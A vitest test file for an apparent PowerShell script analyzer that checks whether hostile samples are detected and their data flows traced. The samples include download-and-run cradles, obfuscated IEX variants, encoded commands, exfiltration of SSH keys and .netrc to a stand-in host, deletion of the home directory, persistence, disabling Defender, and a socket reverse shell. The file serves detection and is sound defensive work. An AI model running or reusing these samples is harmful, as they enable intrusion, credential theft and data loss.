import { describe, expect, it } from 'vitest';
import { labels, readAll } from './python-helper.ts';

const utf16 = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');

const CALLS: readonly (readonly [name: string, source: string, ...expected: string[]])[] = [
  ['a download cradle', "IEX (New-Object Net.WebClient).DownloadString('https://a.example/x')", 'GET https://a.example/x', 'eval invoke-expression'],
  ['aliases and pipes', 'iwr https://a.example/x | iex', 'GET https://a.example/x', 'eval invoke-expression'],
  ['an answer of the name service', '(nslookup -type=txt a.example 192.0.2.1)[-1] | iex', 'DNS a.example', 'eval invoke-expression'],
  ['backticks', "i`E`x 'whoami'", 'powershell: whoami'],
  ['case', "inVoKe-eXpRessiOn 'whoami'", 'powershell: whoami'],
  ['a name built with +', "& ('I'+'EX') 'whoami'", 'powershell: whoami'],
  ['a name built with -f', "& ('{1}{0}' -f 'X','IE') 'whoami'", 'powershell: whoami'],
  ['a name built with -join', "$n = -join @('I','E','X'); & $n 'whoami'", 'powershell: whoami'],
  ['a name built from characters', "$n = (73,69,88 | % { [char]$_ }) -join ''; & $n 'whoami'", 'powershell: whoami'],
  ['a name built with -replace', "$n = 'IQQX' -replace 'QQ','E'; & $n 'whoami'", 'powershell: whoami'],
  ['a name picked by index', "$n = 'xiex'[1..3] -join ''; & $n 'whoami'", 'powershell: whoami'],
  ['an alias of its own', "Set-Alias zz Invoke-Expression; zz 'whoami'", 'powershell: whoami'],
  ['an encoded command', `powershell -nop -w hidden -enc ${utf16('whoami')}`, 'powershell: whoami', 'decode base64'],
  ['an encoded command by its long name', `pwsh.exe -EncodedCommand ${utf16('whoami')}`, 'powershell: whoami'],
  [
    'base64 and a text encoding',
    "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('d2hvYW1p')))",
    'powershell: whoami',
    'decode base64',
  ],
  ['a script block from text', "[scriptblock]::Create('whoami').Invoke()", 'powershell: whoami'],
  ['a method by a string', '(New-Object Net.WebClient)."Down`loadString"(\'https://a.example\')', 'GET https://a.example'],
  [
    'a file that is fetched and run',
    'iwr -Uri https://a.example/x -OutFile x.exe; .\\x.exe',
    'GET https://a.example/x',
    'write x.exe',
    'process x.exe',
  ],
  [
    'sending a file',
    '$d = Get-Content "$env:USERPROFILE\\.ssh\\id_rsa" -Raw\nInvoke-RestMethod -Method Post -Uri https://a.example -Body $d',
    'read ${USERPROFILE}\\.ssh\\id_rsa',
    'POST https://a.example',
  ],
  ['the whole environment', 'Get-ChildItem env: | Out-File e.txt', 'env *', 'write e.txt'],
  ['deletion', 'Remove-Item -Recurse -Force $HOME', 'delete ~'],
  ['a Run key', "New-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name a -Value 'x.exe'", 'persist'],
  ['a scheduled task', "Register-ScheduledTask -TaskName a -Action (New-ScheduledTaskAction -Execute 'x.exe')", 'persist'],
  ['Defender', 'Set-MpPreference -DisableRealtimeMonitoring $true', 'config'],
  ['execution policy', 'Set-ExecutionPolicy Bypass -Scope Process', 'config'],
  ['clipboard', 'Get-Clipboard', 'capture clipboard'],
  [
    'a shell over a socket',
    "$c = New-Object System.Net.Sockets.TCPClient('203.0.113.5',4444); $s = $c.GetStream(); iex $s.Read()",
    'TCP tcp://203.0.113.5:4444',
    'eval invoke-expression',
  ],
  ['a function that hands on', "function Go($c) { iex $c }\nGo 'whoami'", 'powershell: whoami'],
  ['paths in a loop', "foreach ($p in @('~/.netrc','~/.pgpass')) { Get-Content $p }", 'read ~/.netrc', 'read ~/.pgpass'],
  ['programs go to the shell reader', 'git clone https://a.example/x.git', 'shell: git clone https://a.example/x.git'],
];

describe('PowerShell', () => {
  it.each(CALLS)('%s', async (_name, source, ...expected) => {
    const seen = await readAll({ 'a.ps1': source });
    const all = [...labels(seen), ...seen.texts];
    for (const each of expected) expect(all).toContain(each);
  });
  it('follows data', async () => {
    const fetched = await readAll({ 'a.ps1': '$x = irm https://a.example\niex $x' });
    expect(fetched.flows('request', 'exec')).toEqual(['GET https://a.example -> eval invoke-expression (code)']);
    const sent = await readAll({ 'a.ps1': 'function Send($d) { irm https://a.example -Method Post -Body $d }\n$k = Get-Content ~/.netrc\nSend $k' });
    expect(sent.flows('read', 'request')).toEqual(['read ~/.netrc -> POST https://a.example (body)']);
    const run = await readAll({ 'a.ps1': 'iwr https://a.example/x -OutFile ./x.exe\n./x.exe' });
    expect(run.flows('request', 'exec')).toContain('GET https://a.example/x -> process x.exe (code)');
    const apart = await readAll({
      'a.ps1': '$t = $env:TOKEN\nirm https://a.example -Headers @{ Authorization = "Bearer $t" }\nirm https://b.example -Method Post -Body "x"',
    });
    expect(apart.flows('env', 'request')).toEqual(['env TOKEN -> GET https://a.example (header)']);
  });
  it('says when the command is not known', async () => {
    const seen = await readAll({ 'a.ps1': '& $args[0] x' });
    expect(seen.of('opaque').map((fact) => fact.why)).toContain('dynamic');
  });
  it('leaves help and strings alone', async () => {
    const seen = await readAll({
      'a.ps1': "<# iex (iwr https://a.example) #>\n# iex $x\n$help = 'Remove-Item -Recurse -Force /'\n$list = @('iex', 'iwr')",
    });
    expect(labels(seen)).toEqual([]);
  });
});
